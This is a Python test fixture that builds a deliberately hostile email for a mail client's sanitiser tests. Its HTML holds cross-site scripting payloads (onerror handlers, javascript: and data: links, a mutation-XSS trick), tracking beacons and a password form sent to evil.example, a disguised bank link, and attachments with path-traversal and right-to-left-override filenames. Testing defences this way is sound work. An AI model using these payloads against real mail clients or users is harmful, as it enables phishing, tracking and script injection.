"""Mails as they should be, and mails that mean harm."""

from __future__ import annotations

import base64

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
"""A picture of one point."""

ATTACK = """<!doctype html><html><head><title>Offer</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/base/">
<link rel="stylesheet" href="https://evil.example/link.css">
<style>@import url(https://evil.example/import.css); p { background: url(https://evil.example/style.png) }</style>
<script>window.harmed = true; parent.harmed = true; fetch("https://evil.example/script")</script></head>
<body onload="parent.harmed = true" background="https://evil.example/body.png">
<p style="background-image: u\\72l(https://evil.example/css.png); color: #333333">Dear customer,</p>
<p style="--x: url(https://evil.example/var.png); list-style: var(--x)">your account</p>
<img src="https://evil.example/pixel.gif" onerror="parent.harmed = true" alt="Our logo">
<img srcset="https://evil.example/srcset.png 2x">
<img src="//evil.example/relative.png"><img src="x" onerror="parent.harmed = true">
<img src="cid:logo@hibari.example" alt="from the message itself">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.harmed=true'/>">
<table background="https://evil.example/table.png"><tr><td>a table</td></tr></table>
<picture><source srcset="https://evil.example/picture.webp"><img src="https://evil.example/fallback.png"></picture>
<video src="https://evil.example/film.mp4" poster="https://evil.example/poster.png" autoplay></video>
<audio src="https://evil.example/sound.mp3" autoplay></audio>
<svg><script>parent.harmed = true</script><image href="https://evil.example/svg.png"/><a href="javascript:parent.harmed=true"><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.harmed=true&gt;"></table></mtext></math>
<iframe src="https://evil.example/frame" srcdoc="<script>top.harmed=true</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<form action="https://evil.example/form"><input name="password" autofocus onfocus="parent.harmed = true"><button>Sign in</button></form>
<a href="javascript:parent.harmed = true">a script</a>
<a href="data:text/html,<script>parent.harmed = true</script>">a document</a>
<a href="https://evil.example/login?for=you" ping="https://evil.example/ping" target="_top">www.bank.example</a>
<a href="https://bank.example@evil.example/">https://bank.example/</a>
<a href="https://tsubame.example/agenda">the agenda</a>
<noscript><p title="</noscript><img src=x onerror=parent.harmed=true>"></noscript>
<template><img src="https://evil.example/template.png"></template>
</body></html>
"""
"""HTML that tries what HTML can, each in its own way."""

REMOTE = 9
"""The pictures that ATTACK wants from elsewhere, style sheets and films apart."""


def mail(*lines: str, body: bytes | str = "Shall we meet at noon?\r\n", sender: str = "news@evil.example") -> bytes:  # fmt: skip
    """A mail with these header lines beside the usual ones."""
    head = [
        f"From: {sender}",
        "To: sender@tsubame.example",
        "Date: Wed, 01 Apr 2026 09:00:00 +0900",
        "MIME-Version: 1.0",
        *lines,
    ]
    content = body.encode() if isinstance(body, str) else body
    return "\r\n".join(head).encode() + b"\r\n\r\n" + content


def multipart(kind: str, *parts: bytes, boundary: str = "b0") -> tuple[str, bytes]:
    """A Content-Type line and the body that goes with it."""
    delimiter = f"\r\n--{boundary}\r\n".encode()
    body = b"".join(delimiter + part for part in parts) + f"\r\n--{boundary}--\r\n".encode()
    return f'Content-Type: multipart/{kind}; boundary="{boundary}"', body


def part(kind: str, body: bytes | str, *lines: str) -> bytes:
    """A part: its Content-Type, more lines, and its body."""
    content = body.encode() if isinstance(body, str) else body
    return "\r\n".join([f"Content-Type: {kind}", *lines]).encode() + b"\r\n\r\n" + content


def in_base64(data: bytes) -> bytes:
    """Octets as a part carries them, whose header says so."""
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


BASE64 = "Content-Transfer-Encoding: base64"


def attack() -> bytes:
    """ATTACK as a mail with a text beside it, a picture of its own, two files and another mail."""
    kind, body = multipart(
        "alternative",
        part("text/plain; charset=utf-8", "Dear customer, in plain text."),
        part("text/html; charset=utf-8", ATTACK),
        boundary="b2",
    )
    related, body = multipart(
        "related",
        kind.encode() + b"\r\n\r\n" + body,
        part("image/png", in_base64(PIXEL), BASE64, "Content-ID: <logo@hibari.example>"),
        boundary="b1",
    )
    inner = mail("Subject: An inner message", body="The inner text.", sender="inner@hibari.example")
    mixed, body = multipart(
        "mixed",
        related.encode() + b"\r\n\r\n" + body,
        part("application/pdf", in_base64(b"MZ" * 5_000), BASE64, 'Content-Disposition: attachment; filename="../../invoice.pdf.exe"'),
        part("text/plain", in_base64(b"hidden"), BASE64, "Content-Disposition: attachment; filename*=utf-8''gpj%E2%80%AE.exe"),
        part("message/rfc822", inner, "Content-Disposition: attachment"),
    )  # fmt: skip
    return mail("Subject: =?utf-8?b?44GK55+l44KJ44Gb?= of an offer", mixed, body=body)
